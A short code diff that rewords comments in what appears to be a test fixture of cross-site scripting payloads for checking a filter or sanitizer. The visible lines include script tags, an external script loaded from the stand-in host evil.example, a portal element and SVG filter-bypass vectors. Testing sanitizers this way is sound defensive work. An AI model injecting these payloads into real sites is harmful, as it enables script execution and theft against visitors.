@@ -1,4 +1,4 @@
-/** Ways to bring script past a filter, one of each family that OWASP's cheat sheet and published bypasses name. */
+/** Script injections, one for each family of OWASP's cheat sheet and of published bypasses. */
 const scripts = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
@@ -97,7 +97,7 @@ const loaders = [
   '<portal src="https://evil.example"></portal>',
 ]
 
-/** What a browser reads in another way than a filter does: other namespaces, raw text, broken nesting. */
+/** Input that browsers and filters parse differently: other namespaces, raw text, broken nesting. */
 const mutations = [
   '<svg onload=alert(1)>',
   '<svg><script>alert(1)</script></svg>',
